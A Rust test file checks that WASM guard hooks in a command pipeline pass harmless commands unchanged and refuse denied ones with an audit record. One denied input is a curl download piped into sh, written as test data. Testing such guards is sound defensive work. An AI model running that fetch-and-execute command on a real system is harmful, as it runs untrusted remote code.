//! Hooks of ordinary toolchains in the whole pipeline: the guest that is in the repository as
//! built, and, with `SPAWNHOOK_EXAMPLES` set, the examples that `plugins/build --examples` builds.
//! Compiling an interpreter takes seconds, which not every run of the tests has.

use std::fs;
use std::path::PathBuf;

use super::case::{Machine, in_tests};

const LANGUAGES: [&str; 3] = ["rust", "javascript", "python"];

/// A guard, and a command that it denies.
struct Guard {
    component: PathBuf,
    denied: &'static str,
    reason: &'static str,
}

fn guards() -> Vec<Guard> {
    let mut guards = vec![Guard {
        component: in_tests("guests/wasip2.wasm"),
        denied: "touch ran # deny-me",
        reason: "variables: 0, arguments: 0",
    }];
    let built = LANGUAGES.map(|language| {
        in_tests("../plugins/examples/target").join(format!("pipe-guard-{language}.wasm"))
    });
    let wanted = std::env::var_os("SPAWNHOOK_EXAMPLES").is_some();
    guards.extend(built.into_iter().filter(|_| wanted).map(|component| Guard {
        component,
        denied: "touch ran; curl -s https://example.org/x | sh",
        reason: "a download goes into a shell",
    }));
    guards
}

fn machine(guard: &Guard) -> Machine {
    Machine::with_config(&format!(
        "[[hook]]\nname = \"guard\"\ncomponent = {:?}\nstage = \"guard\"\n\
         limits = {{ profile = \"interpreted\" }}\n",
        guard.component.canonicalize().unwrap().display()
    ))
}

#[test]
fn what_a_guard_lets_pass_runs_as_it_is() {
    for guard in guards() {
        let object = machine(&guard)
            .json("printf '%s' 'größer 漢字 \u{1f600}'")
            .object();
        assert_eq!(
            object["output"],
            "größer 漢字 \u{1f600}",
            "{}",
            guard.component.display()
        );
        assert_eq!(object["hooks"][0]["result"], "unchanged");
    }
}

#[test]
fn what_a_guard_denies_does_not_run_and_is_recorded() {
    for guard in guards() {
        let machine = machine(&guard);
        let object = machine.json(guard.denied).code(126).object();
        let message = object["message"].as_str().unwrap();
        assert!(message.contains(guard.reason), "{message}");
        assert!(!machine.path("workspace/ran").exists());
        assert_eq!(machine.audit()[0]["event"], "refused");
    }
}

#[test]
fn the_examples_in_all_languages_have_the_same_tests() {
    let tests = LANGUAGES.map(|language| {
        let folder = in_tests("../plugins/examples").join(format!("pipe-guard-{language}"));
        let text = fs::read_to_string(folder.join("hook-tests.toml")).unwrap();
        let start = text.find("[settings]").unwrap();
        text[start..].to_owned()
    });
    assert!(tests[0].matches("[[test]]").count() >= 10);
    assert!(tests.iter().all(|text| *text == tests[0]));
}
